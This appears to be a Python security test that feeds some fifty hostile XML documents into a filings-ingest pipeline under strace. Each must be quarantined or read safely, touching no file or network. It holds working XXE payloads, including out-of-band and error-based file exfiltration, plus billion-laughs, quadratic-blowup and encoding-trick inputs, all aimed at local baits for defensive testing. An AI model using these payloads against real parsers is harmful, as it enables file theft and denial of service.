"""What XML can do to those who read it: documents that open files, ask the net, explode or lie, through the real ingest.

    python -m tests.experiments.attacks [--trials 1] [--json PATH]

A process of its own ingests all of them, under strace where that is installed: between the first and the last it may open nothing but its
store and what Python loads, and connect to nothing but its EDGAR. Everywhere a bait (a file and a port) shows whether one was taken. Each
document is set aside and alerted with its link, or, where nothing is wrong with it, read as it stands. Prints one line; exit 1 if not.
"""

from __future__ import annotations

import argparse
import json
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from dataclasses import field
from dataclasses import replace
from pathlib import Path

from tests.experiments.command_line import NO_CHANCE
from tests.experiments.command_line import command_parser
from tests.experiments.command_line import write_result
from tests.loopback import Receiver
from tests.world import MINUTE
from tests.world import REPOSITORY
from tests.world import World
from tests.world import a_sale
from tests.world import accession
from tests.world import environment

BAIT = "w0rm1ngl1ne"  # what the bait's file holds
SHARES = b"<value>1000</value>"  # of the sale, as written
SECONDS = 20.0  # for all documents together, of CPU
MEGABYTES = 64  # that the greediest may take
MARK = "/attacks-"  # files that are asked for, and do not exist, to mark a place in the trace
STRACE = shutil.which("strace")


@dataclass(frozen=True, slots=True)
class Attack:
    """A document and what must become of it: "quarantined", or "ingested" with 1,000 shares sold."""

    name: str
    document: bytes
    becomes: str = "quarantined"


# --- the documents --------------------------------------------------------------------------------------------------------------


def attacks(bait_file: Path, bait_url: str) -> Iterator[Attack]:
    """All documents; the baits are where they would have their reader go."""
    sale = a_sale(1).document
    body = sale.partition(b"?>")[2].lstrip()
    yield from _asking(body, bait_file.as_uri().encode(), bait_url.encode())
    yield from _exploding(sale, body)
    yield from _lying(sale, body, bait_file.as_uri().encode(), bait_url.encode())


def _with_dtd(body: bytes, dtd: bytes, use: bytes = b"") -> bytes:
    """The sale under this DOCTYPE, `use` standing in a security title."""
    return b'<?xml version="1.0"?>\n' + dtd + b"\n" + body.replace(b"<value>Common Stock", b"<value>" + use + b"Common Stock", 1)


def _asking(body: bytes, file: bytes, url: bytes) -> Iterator[Attack]:
    """Those that would have a file opened or the net asked."""
    sources = {
        "file": file,
        "http": url,
        "ftp": url.replace(b"http", b"ftp"),
        "jar": b"jar:" + url + b"!/x",
        "unc": b"//127.0.0.1/x",
    }
    for name, address in sources.items():
        yield Attack(f"general entity, {name}", _with_dtd(body, b'<!DOCTYPE o [<!ENTITY x SYSTEM "%s">]>' % address, b"&x;"))
        yield Attack(f"parameter entity, {name}", _with_dtd(body, b'<!DOCTYPE o [<!ENTITY %% x SYSTEM "%s"> %%x;]>' % address))
        yield Attack(f"external DTD, {name}", _with_dtd(body, b'<!DOCTYPE ownershipDocument SYSTEM "%s">' % address))
    yield Attack("external DTD, public", _with_dtd(body, b'<!DOCTYPE o PUBLIC "-//x//y" "%s">' % url))
    yield Attack("general entity, public", _with_dtd(body, b'<!DOCTYPE o [<!ENTITY x PUBLIC "x" "%s">]>' % file, b"&x;"))
    out = b'<!DOCTYPE o [<!ENTITY %% f SYSTEM "%s"><!ENTITY %% e "<!ENTITY &#37; s SYSTEM \'%s?%%f;\'>">%%e;%%s;]>'
    yield Attack("a file's content in an address", _with_dtd(body, out % (file, url)))
    error = b'<!DOCTYPE o [<!ENTITY %% f SYSTEM "%s"><!ENTITY %% e "<!ENTITY &#37; s SYSTEM \'file:///no/%%f;\'>">%%e;%%s;]>'
    yield Attack("a file's content in an error", _with_dtd(body, error % file))
    unparsed = b'<!DOCTYPE o [<!NOTATION n SYSTEM "%s"><!ENTITY x SYSTEM "%s" NDATA n>]>' % (url, file)
    yield Attack("unparsed entity", _with_dtd(body, unparsed))
    late = b'<!-- a comment first -->\n <!DOCTYPE o [<!ENTITY x SYSTEM "%s">]>' % file
    yield Attack("DOCTYPE behind a comment", _with_dtd(body, late, b"&x;"))
    utf16 = _with_dtd(body, b'<!DOCTYPE o [<!ENTITY x SYSTEM "%s">]>' % file, b"&x;").decode()
    yield Attack("DOCTYPE in UTF-16", utf16.replace('"1.0"', '"1.0" encoding="utf-16"', 1).encode("utf-16"))
    yield Attack("DOCTYPE in UTF-7", b'<?xml version="1.0" encoding="utf-7"?>' + utf16.partition("?>")[2].encode("utf-7"))


def _exploding(sale: bytes, body: bytes) -> Iterator[Attack]:
    """Those that grow, or go deep, or wide."""
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
    for name, use in (("in an element", b"&l9;"), ("in an attribute", b'<a b="&l9;"/>')):
        yield Attack(f"laughs {name}", _with_dtd(body, b'<!DOCTYPE o [<!ENTITY l0 "ha">' + laughs + b"]>", use))
    percent = b"".join(b'<!ENTITY %% p%d "%s">' % (level, b"&#37;p%d;" % (level - 1) * 10) for level in range(1, 9))
    yield Attack("laughs of parameter entities", _with_dtd(body, b'<!DOCTYPE o [<!ENTITY % p0 "ha">' + percent + b" %p8;]>"))
    yield Attack("quadratic", _with_dtd(body, b'<!DOCTYPE o [<!ENTITY a "' + b"a" * 50_000 + b'">]>', b"&a;" * 20_000))
    yield Attack("an entity of itself", _with_dtd(body, b'<!DOCTYPE o [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', b"&a;"))
    inside = b"<remarks>"
    for depth in (300, 40_000):
        yield Attack(f"{depth} deep", sale.replace(inside, b"<a>" * depth + b"</a>" * depth + inside))
    yield Attack("2,000,000 siblings", sale.replace(inside, b"<a/>" * 2_000_000 + inside))
    yield Attack("90,000 siblings", sale.replace(inside, b"<a/>" * 90_000 + inside), "ingested")
    many = b" ".join(b'a%d=""' % number for number in range(100_000))
    yield Attack("100,000 attributes", sale.replace(inside, b"<a " + many + b"/>" + inside), "ingested")
    names = b" ".join(b'xmlns:a%d="u:%d"' % (number, number) for number in range(20_000))
    yield Attack("20,000 namespaces", sale.replace(inside, b"<a " + names + b"/>" + inside), "ingested")
    yield Attack("a footnote of 5 MB", sale.replace(inside, b'<footnotes><footnote id="F1">' + b"a" * 5_000_000 + inside))
    yield Attack("an attribute of 5 MB", sale.replace(inside, b'<a b="' + b"a" * 5_000_000 + b'"/>' + inside))


def _lying(sale: bytes, body: bytes, file: bytes, url: bytes) -> Iterator[Attack]:
    """Those that say another thing to another reader, or are not what they say."""
    read = "ingested"
    yield Attack("comment in a value", sale.replace(SHARES, b"<value>10<!-- x -->00</value>"), read)
    yield Attack("instruction in a value", sale.replace(SHARES, b"<value>10<?x y?>00</value>"), read)
    yield Attack("CDATA in a value", sale.replace(SHARES, b"<value>10<![CDATA[00]]></value>"), read)
    yield Attack("references in a value", sale.replace(SHARES, b"<value>&#49;0&#x30;0</value>"), read)
    remark = b"<remarks><![CDATA[<!DOCTYPE x SYSTEM '%s'>]]>" % url
    yield Attack("DOCTYPE as words", sale.replace(b"<remarks>", remark), read)
    include = b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="%s"/>' % file
    yield Attack("XInclude", sale.replace(b"<remarks>", b"<remarks>" + include), read)
    style = b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="%s"?>\n' % url
    yield Attack("stylesheet", style + body, read)
    schema = b'<ownershipDocument xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:noNamespaceSchemaLocation="%s">' % url
    yield Attack("schema elsewhere", sale.replace(b"<ownershipDocument>", schema, 1), read)
    declared = b'<?xml version="1.0" encoding="%s"?>\n'
    yield Attack("latin-1", declared % b"iso-8859-1" + body.replace(b"Roe Jane", b"Ro\xe9 Jane"), read)
    yield Attack("EBCDIC", (declared % b"cp037" + body).decode().encode("cp037"))
    yield Attack("UTF-32", (declared % b"utf-32" + body).decode().encode("utf-32"))
    yield Attack("UTF-16 that is none", declared % b"utf-16" + body)
    yield Attack("an encoding nobody knows", declared % b"x-evil" + body)
    yield Attack("bad UTF-8", sale.replace(b"Roe Jane", b"Ro\xff Jane"))
    yield Attack("NUL", sale.replace(b"Roe Jane", b"Roe\x00Jane"))
    yield Attack("a control character", sale.replace(b"Roe Jane", b"Roe&#1;Jane"))
    yield Attack("a surrogate", sale.replace(b"Roe Jane", b"Roe&#xD800;Jane"))
    yield Attack("no such character", sale.replace(b"Roe Jane", b"Roe&#99999999;Jane"))
    yield Attack("an entity nobody declared", sale.replace(b"Roe Jane", b"Roe&nbsp;Jane"))
    yield Attack("cut inside a tag", sale[: sale.index(b"<remarks") + 4])
    yield Attack("cut before its end", sale[: sale.rindex(b"</ownershipDocument")])
    yield Attack("two documents", sale + body)
    yield Attack("the same attribute twice", sale.replace(b"<issuer>", b'<issuer a="1" a="2">'))
    yield Attack("inside another document", b'<?xml version="1.0"?><svg>' + body + b"</svg>")


# --- inside: ingest them all ----------------------------------------------------------------------------------------------------


def peak(*, reset: bool = False) -> int:
    """The most memory this process has held since the last reset, in bytes (proc(5), VmHWM)."""
    if reset:
        Path("/proc/self/clear_refs").write_text("5")
    status = Path("/proc/self/status").read_text("ascii")
    found = re.search(r"VmHWM:\s*([0-9]+) kB", status)
    return int(found[1]) * 1024 if found else 0


def inside(folder: Path, bait_file: Path, bait_url: str) -> dict[str, list[str]]:
    """Ingest all documents in this process; for each what was wrong."""
    wrong: dict[str, list[str]] = {}
    with World(folder) as world:
        world.watch()
        world.store.set_baseline(world.store.watches()[0].key, "done")
        world.clock.tick(MINUTE)
        world.file(a_sale(1))
        world.poll()
        world.ingest()  # all that is imported late is imported now
        Path(f"{MARK}begin").exists()
        for number, attack in enumerate(attacks(bait_file, bait_url), 2):
            # Another price each time: the same sale twice would be one that is told of already.
            world.file(replace(a_sale(number), document=attack.document.replace(b"25.56", b"%d.56" % number)))
            assert world.poll().new == (accession(number),)
            before = peak(reset=True)
            began = time.process_time()
            states = [result.state for result in world.ingest()]
            took, grown = time.process_time() - began, (peak() - before) / 2**20
            found = _wrong_with(world, accession(number), attack, states)
            if took > SECONDS / 10 or grown > MEGABYTES:
                found.append(f"took {took:.1f} s of CPU and {grown:.0f} MB")
            if found:
                wrong[attack.name] = found
            wrong.setdefault("", []).append(attack.name)
        Path(f"{MARK}end").exists()
        wrong["edgar"] = [str(world.edgar.port)]
    return wrong


def _wrong_with(world: World, number: str, attack: Attack, states: list[str]) -> list[str]:
    wrong = [] if states == [attack.becomes] else [f"{states}, not {attack.becomes}"]
    rows = world.store.rows("SELECT title, text, html, payload FROM alert WHERE accession_number = ?", (number,))
    if len(rows) != 1:
        wrong.append(f"{len(rows)} alerts")
    for row in rows:
        told = json.loads(row["payload"])
        if BAIT in row["text"] + row["html"] + json.dumps(told):
            wrong.append("the bait was read")
        if number.replace("-", "") not in row["text"]:
            wrong.append("the alert has no link")
        if attack.becomes == "ingested" and [event["shares"] for event in told["events"]] != ["1000"]:
            wrong.append(f"other shares: {told['events']}")
    return wrong


# --- outside: what it touched ---------------------------------------------------------------------------------------------------

_CALL = re.compile(r"(?:^|\s)(open|openat|openat2|creat|connect|sendto|execve)\((.*)")


def touched(trace: str, allowed: tuple[str, ...], port: str) -> list[str]:
    """Calls between the two marks that open or reach what they should not."""
    between = trace.partition(f"{MARK}begin")[2].partition(f"{MARK}end")[0]
    assert "watcher.db" in between, "the trace does not show what was opened"
    suspect = []
    for line in between.splitlines():
        found = _CALL.search(line)
        if found is None:
            continue
        call, arguments = found[1], found[2]
        path = re.search(r'"([^"]*)"', arguments)
        if call in {"open", "openat", "openat2", "creat", "execve"}:
            fine = path is not None and path[1].startswith(allowed)
        else:
            fine = call == "sendto" or f"htons({port})" in arguments
        if not fine:
            suspect.append(line.strip()[:200])
    return suspect


@dataclass(frozen=True, slots=True)
class Result:
    """What all documents came to; `traced` says whether strace looked on. `wrong` is by document."""

    documents: int
    opened: int
    asked: int
    traced: bool
    seconds: float
    wrong: dict[str, list[str]] = field(default_factory=dict)

    @property
    def good(self) -> bool:
        return not self.wrong and self.opened == self.asked == 0 and self.documents >= 40

    def __str__(self) -> str:
        return (
            f"attacks documents={self.documents} opened={self.opened} asked={self.asked} wrong={len(self.wrong)} "
            f"traced={'yes' if self.traced else 'no: strace is not installed'}"
        )


def _take(receiver: Receiver, client: socket.socket) -> None:
    receiver.received.append(client.recv(1000))


def run() -> Result:
    """All documents, once, in a process of its own."""
    begun = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="attacks-") as name, Receiver(_take) as bait:
        folder, bait_file, trace = Path(name) / "world", Path(name) / "bait" / "file", Path(name) / "trace"
        folder.mkdir()
        bait_file.parent.mkdir()
        bait_file.write_text(BAIT, "utf-8")
        asked: list[bytes] = bait.received
        looking = [STRACE, "-f", "-qq", "-s", "300", "-e", "trace=%file,%network", "-o", str(trace)] if STRACE else []
        command = [sys.executable, "-m", "tests.experiments.attacks", "--inside"]
        ran = subprocess.run(  # noqa: S603 -- itself
            [*looking, *command, str(folder), str(bait_file), f"http://127.0.0.1:{bait.port}/bait"],
            cwd=REPOSITORY,
            env=environment(folder),
            capture_output=True,
            text=True,
            check=False,
        )
        assert ran.returncode == 0, ran.stderr[-3000:]
        wrong: dict[str, list[str]] = json.loads(ran.stdout)
        done, (port,) = wrong.pop(""), wrong.pop("edgar")
        allowed = (str(folder), sys.prefix, sys.base_prefix, str(REPOSITORY), "/usr/share/zoneinfo", "/proc/self/")
        suspect = touched(trace.read_text("utf-8", "replace"), allowed, port) if STRACE else []
    if suspect:
        wrong["opened"] = suspect[:20]
    return Result(len(done), len(suspect), len(asked), bool(STRACE), round(time.monotonic() - begun, 1), wrong)


def main() -> int:
    """Ingest them all, and print what came of it."""
    parser = command_parser(__doc__, trials=1, seed=NO_CHANCE)
    parser.add_argument("--inside", nargs=3, help=argparse.SUPPRESS)
    asked = parser.parse_args()
    if asked.inside:
        sys.stdout.write(json.dumps(inside(Path(asked.inside[0]), Path(asked.inside[1]), asked.inside[2])))
        return 0
    results = [run() for _ in range(asked.trials)]
    for result in results:
        sys.stdout.write(f"{result}\n" + "".join(f"  {name}: {'; '.join(found)}\n" for name, found in result.wrong.items()))
    write_result(results, asked.json)
    return 0 if all(result.good for result in results) else 1


if __name__ == "__main__":
    sys.exit(main())
